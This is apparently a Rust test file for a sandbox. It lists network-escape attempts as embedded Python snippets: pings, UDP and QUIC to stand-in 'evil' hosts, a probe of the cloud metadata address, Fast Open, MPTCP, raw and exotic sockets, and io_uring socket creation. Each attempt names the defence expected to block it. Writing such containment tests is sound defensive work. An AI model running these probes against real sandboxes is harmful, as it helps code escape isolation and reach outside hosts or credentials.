//! Whatever is neither TCP nor a look-up.

use super::{ALLOWED, Attempt, Ground, Policy};

/// A datagram that somebody answers.
macro_rules! datagram {
    ($name:literal, $address:expr, $port:literal) => {
        Attempt::new(
            $name,
            "network_namespace",
            Policy::Public,
            concat!("verdict(udp(", $address, ", ", $port, "))"),
        )
    };
}

/// A socket that should not come to be.
macro_rules! socket {
    ($name:literal, $words:literal) => {
        socket!($name, "seccomp", $words)
    };
    ($name:literal, $defence:literal, $words:literal) => {
        Attempt::new(
            $name,
            $defence,
            Policy::Public,
            concat!("socket.socket(", $words, ")\nverdict(True)"),
        )
        .on(Ground::Kernel)
    };
}

/// An echo request by whatever socket there is: icmp(7). Raw ones bring the IP header along.
const PING: &str = "
def checked(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xffff)
    return data[:2] + struct.pack('!H', ~(total + (total >> 16)) & 0xffff) + data[4:]
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        sender = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        sender.settimeout(SECONDS)
        sender.sendto(checked(b'\\x08\\0\\0\\0\\0\\x01\\0\\x01' + MARK + b'.'), (EVIL4, 0))
        verdict(MARK in sender.recv(1000))
    except OSError:
        pass
verdict(False)";

const PING6: &str = "
for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
    try:
        sender = socket.socket(socket.AF_INET6, kind, socket.IPPROTO_ICMPV6)
        sender.settimeout(SECONDS)
        sender.sendto(b'\\x80\\0\\0\\0\\0\\x01\\0\\x01' + MARK, (EVIL6, 0))
        limit = time.monotonic() + SECONDS
        while time.monotonic() < limit:
            # Neighbours are looked for by the same protocol.
            if sender.recv(1000)[-len(MARK):] == MARK:
                verdict(True)
    except OSError:
        pass
verdict(False)";

/// To the address that stands for the name, and to the one that it has outside.
const NAMED_QUIC: &str = "
targets = [STREAMS4]
try:
    targets.append(socket.getaddrinfo('streams.allowed.example', 443)[0][4][0])
except OSError:
    pass
def answered(target):
    try:
        return udp(target, 443)
    except OSError:
        return False
verdict(any([answered(target) for target in targets]))";

/// A route that is recorded on the way: RFC 791, 3.1. IP_OPTIONS of ip(7).
const OPTIONS: &str = "
option = b'\\x07\\x07\\x04\\0\\0\\0\\0\\0'
verdict(udp(EVIL4, 7, lambda sender: sender.setsockopt(socket.IPPROTO_IP, 4, option)))";

/// Data in the first segment: MSG_FASTOPEN of sendto(2).
const FAST: &str = "
with socket.socket() as stream:
    # A limit of Python's would make the call return before there is a connection.
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack('ll', SECONDS, 0))
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack('ll', SECONDS, 0))
    stream.sendto(get('evil.example'), 0x20000000, (EVIL4, 80))
    verdict(MARK in read(stream))";

/// TCP by several paths, whose sockets are not TCP's: RFC 8684.
const PATHS: &str = "
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as stream:
    stream.settimeout(SECONDS)
    stream.connect((EVIL4, 80))
    stream.sendall(get('evil.example'))
    verdict(MARK in read(stream))";

/// Sockets that no system call for sockets makes.
const RING: &str = "verdict(call(425, 4, (ctypes.c_char * 120)()) >= 0)";

#[rustfmt::skip]
pub(crate) const ATTEMPTS: &[Attempt] = &[
    Attempt::new("cannot_ping", "echo", Policy::Public, PING),
    Attempt::new("cannot_ping6", "echo", Policy::Public, PING6),
    datagram!("cannot_send_datagrams", "EVIL4", "7"),
    datagram!("cannot_send_datagrams6", "EVIL6", "7"),
    datagram!("cannot_speak_quic", "EVIL4", "443"),
    datagram!("cannot_speak_quic6", "EVIL6", "443"),
    datagram!("cannot_ask_for_the_time", "EVIL4", "123"),
    datagram!("cannot_send_datagrams_to_metadata", "'169.254.169.254'", "7"),
    datagram!("cannot_send_datagrams_to_the_host", "HOST4", "BAIT"),
    Attempt::new("cannot_speak_quic_to_an_allowed_name", "network_namespace", ALLOWED,
        NAMED_QUIC),
    Attempt::new("cannot_put_options_before_a_datagram", "network_namespace", Policy::Public,
        OPTIONS),
    Attempt::new("cannot_send_data_before_the_answer", "rules", ALLOWED, FAST),
    Attempt::new("cannot_take_several_paths", "rules", ALLOWED, PATHS),
    socket!("cannot_make_a_raw_socket", "seccomp,capabilities,network_owner", "socket.AF_INET, socket.SOCK_RAW, 255"),
    socket!("cannot_make_a_raw_socket6", "seccomp,capabilities,network_owner", "socket.AF_INET6, socket.SOCK_RAW, 255"),
    socket!("cannot_make_a_packet_socket", "seccomp,capabilities,network_owner", "socket.AF_PACKET, socket.SOCK_RAW, 0x300"),
    socket!("cannot_make_an_sctp_socket", "socket.AF_INET, socket.SOCK_STREAM, 132"),
    socket!("cannot_make_a_dccp_socket", "socket.AF_INET, 6, 33"),
    socket!("cannot_make_a_udp_lite_socket", "socket.AF_INET, socket.SOCK_DGRAM, 136"),
    socket!("cannot_make_a_vsock", "40, socket.SOCK_STREAM"),
    socket!("cannot_make_an_xdp_socket", "seccomp,capabilities,network_owner", "44, socket.SOCK_RAW"),
    socket!("cannot_make_an_smc_socket", "43, socket.SOCK_STREAM"),
    socket!("cannot_make_a_tipc_socket", "30, socket.SOCK_STREAM"),
    socket!("cannot_make_an_rxrpc_socket", "33, socket.SOCK_DGRAM, 2"),
    socket!("cannot_make_a_bluetooth_socket", "31, socket.SOCK_RAW, 1"),
    Attempt::new("cannot_make_sockets_by_a_ring", "seccomp", Policy::Public, RING)
        .on(Ground::Sandbox),
];
